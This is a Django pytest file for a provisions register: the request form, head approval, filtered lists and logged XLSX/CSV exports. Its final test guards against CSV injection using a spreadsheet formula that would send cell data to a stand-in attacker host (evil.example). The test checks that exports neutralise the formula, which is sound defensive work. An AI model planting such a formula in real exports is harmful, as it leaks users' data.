"""Provisions register pages: the form, the list with filters, the XLSX and CSV exports."""

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from quancheng.access.models import Provision
from quancheng.access.provisions import (
    HEADER,
    decide_provision,
    register_provided,
    request_provision,
)
from quancheng.ledger.models import Event

from .extraction_setup import refs

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("extraction_stores")]


def _client(user, csrf=False):
    client = Client(enforce_csrf_checks=csrf)
    client.force_login(user)
    return client


@pytest.fixture
def two(custodian, head, act, act_items):
    made = []
    for recipient, kind in (("重庆市第五中级人民法院", "judicial"), ("渝中区信访办", "petition")):
        provision = request_provision(
            custodian,
            recipient=recipient,
            recipient_kind=kind,
            legal_basis="依申请调取",
            act=act,
            items=refs(act_items[:1]),
        )
        decide_provision(head, provision, approve=True)
        made.append(register_provided(custodian, provision, provided_on=timezone.localdate()))
    return made


def _post(client, url, data, to=None):
    """Post the form of the page at ``url`` (with its CSRF token), to ``to`` when given."""
    page = client.get(url).content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    target = reverse(f"extraction:{to}", args=[url.rstrip("/").split("/")[-1]]) if to else url
    return client.post(target, {"csrfmiddlewaretoken": token, **data})


def test_the_form_requests_and_the_head_approves_on_the_page(
    custodian, head, officer, act, act_items
):
    client = _client(custodian, csrf=True)
    url = reverse("extraction:provision_new") + f"?act={act.pk}"
    page = client.get(url).content.decode()
    assert "批准人" not in page  # nobody names the approver: the head decides in the platform
    response = _post(
        client,
        url,
        {
            "act": act.pk,
            "recipient": "重庆市渝中区人民法院",
            "recipient_kind": "judicial",
            "legal_basis": "行政诉讼法第三十四条",
            "items": [f"segment:{act_items[0].pk}"],
        },
    )
    provision = Provision.objects.get()
    assert response.status_code == 302 and response.url == provision.get_absolute_url()
    assert provision.status == Provision.Status.REQUESTED
    detail = client.get(response.url).content.decode()
    assert "重庆市渝中区人民法院" in detail and "待审批" in detail and "登记已提供" not in detail
    # An officer sees no decision form and cannot decide by posting.
    other = _client(officer, csrf=False)
    assert "批准</button>" not in other.get(response.url).content.decode()
    other.post(reverse("extraction:provision_decide", args=[provision.pk]), {"decision": "approve"})
    provision.refresh_from_db()
    assert provision.status == Provision.Status.REQUESTED
    boss = _client(head, csrf=True)
    assert "向重庆市渝中区人民法院提供" in boss.get(reverse("access:inbox")).content.decode()
    _post(boss, provision.get_absolute_url(), {"decision": "approve"}, to="provision_decide")
    provision.refresh_from_db()
    assert provision.status == Provision.Status.APPROVED and provision.decided_by == head
    today = timezone.localdate().isoformat()
    _post(client, provision.get_absolute_url(), {"provided_on": today}, to="provision_provided")
    provision.refresh_from_db()
    assert provision.status == Provision.Status.PROVIDED
    assert "刘洋" in client.get(provision.get_absolute_url()).content.decode()


def test_a_bad_form_shows_the_chinese_error_and_registers_nothing(custodian, act, act_items):
    response = _client(custodian).post(
        reverse("extraction:provision_new"),
        {"act": act.pk, "recipient": "法院", "recipient_kind": "judicial", "legal_basis": "x"},
    )
    assert response.status_code == 400
    assert "请至少选择一个条目" in response.content.decode()
    assert not Provision.objects.exists()


def test_the_list_filters_and_the_outsider_sees_none(custodian, outsider, two):
    client = _client(custodian)
    url = reverse("extraction:provision_list")
    page = client.get(url).content.decode()
    assert "重庆市第五中级人民法院" in page and "渝中区信访办" in page
    page = client.get(url, {"recipient_kind": "petition"}).content.decode()
    assert "重庆市第五中级人民法院" not in page and "渝中区信访办" in page
    assert "format=csv&amp;recipient_kind=petition" in page
    other = _client(outsider)
    assert "渝中区信访办" not in other.get(url).content.decode()
    assert other.get(two[0].get_absolute_url()).status_code == 404


def test_exports_stream_xlsx_and_csv_with_the_filters_and_are_logged(custodian, two):
    client = _client(custodian)
    url = reverse("extraction:provision_export")
    response = client.get(url, {"format": "xlsx"})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADER and len(rows) == 3
    response = client.get(url, {"format": "csv", "recipient_kind": "judicial"})
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert len(parsed) == 2 and parsed[1][3] == "重庆市第五中级人民法院"
    exports = Event.objects.filter(action="provision.exported").order_by("seq")
    assert [e.actor for e in exports] == [custodian, custodian]
    assert '"recipient_kind":"judicial"' in exports.last().body
    assert client.get(url, {"format": "pdf"}).status_code == 404


def test_exports_neutralise_cells_that_would_run_as_formulas(custodian, head, act, act_items):
    """OWASP CSV injection: a recipient typed as a formula is exported as text."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    provision = request_provision(
        custodian,
        recipient=formula,
        recipient_kind="judicial",
        legal_basis="@SUM(1+1)",
        act=act,
        items=refs(act_items[:1]),
    )
    decide_provision(head, provision, approve=True)
    register_provided(custodian, provision, provided_on=timezone.localdate())
    client = _client(custodian)
    url = reverse("extraction:provision_export")
    response = client.get(url, {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert "'" + formula in row and "'@SUM(1+1)" in row
    response = client.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c.value for c in list(sheet.iter_rows())[1]]
    assert "'" + formula in cells and formula not in cells
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
